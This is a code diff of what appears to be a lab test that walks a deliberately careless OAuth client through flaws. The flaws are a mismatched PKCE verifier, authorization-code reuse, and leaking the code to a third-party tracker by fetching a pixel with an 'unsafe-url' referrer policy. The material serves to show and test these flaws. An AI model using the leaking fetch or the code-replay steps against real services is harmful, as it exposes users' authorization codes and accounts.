@@ -1,18 +1,14 @@
 import { CARELESS } from '../../careless/clients';
 import { originOf } from '../../hosts';
-import { carelessFor, codeHere, signIn, trade } from '../../page/by-hand';
+import { askTokens, carelessFor, codeHere, forCode, signIn } from '../../page/by-hand';
+import { HERE } from '../../page/here';
 import { runJourney } from '../../page/journey';
 import { random } from '../../page/random';
 
 const shop = carelessFor(CARELESS.shop, 'orders:read');
-const code = codeHere();
+const code = codeHere() ?? '';
 
-// The picture of a stranger, asked for while the code is in the address, by a page that tells its whole address.
-if (code) await fetch(`${originOf('tracker')}/pixel`, { referrerPolicy: 'unsafe-url' });
-
-const tradeBadly = async (): Promise<void> => {
-  await trade(shop, code ?? '', { code_verifier: random(32) });
-};
+const tradeBadly = () => askTokens(shop, forCode(shop, code, { code_verifier: random(32) }));
 
 runJourney(
   {
@@ -21,10 +17,15 @@ runJourney(
       await tradeBadly();
       return 'The server took the code with a verifier that does not fit.';
     },
+    async picture() {
+      const { status } = await fetch(`${originOf('tracker')}/pixel`, { referrerPolicy: 'unsafe-url' });
+      history.replaceState(null, '', HERE);
+      return `The third party answered ${status}, and knows the code.`;
+    },
     async again() {
       await tradeBadly();
       return 'The server took the code again.';
     },
   },
-  'The code is here, and tracker.third.test knows it.',
+  'The code is here.',
 );
